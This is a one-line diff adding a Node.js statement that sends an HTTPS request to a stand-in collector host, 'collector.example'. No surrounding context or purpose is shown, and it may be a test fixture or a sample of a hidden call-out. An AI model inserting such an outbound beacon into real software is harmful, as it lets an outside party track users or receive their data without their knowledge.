@@ -1,0 +1,1 @@
+require("https").get("https://collector.example/x")
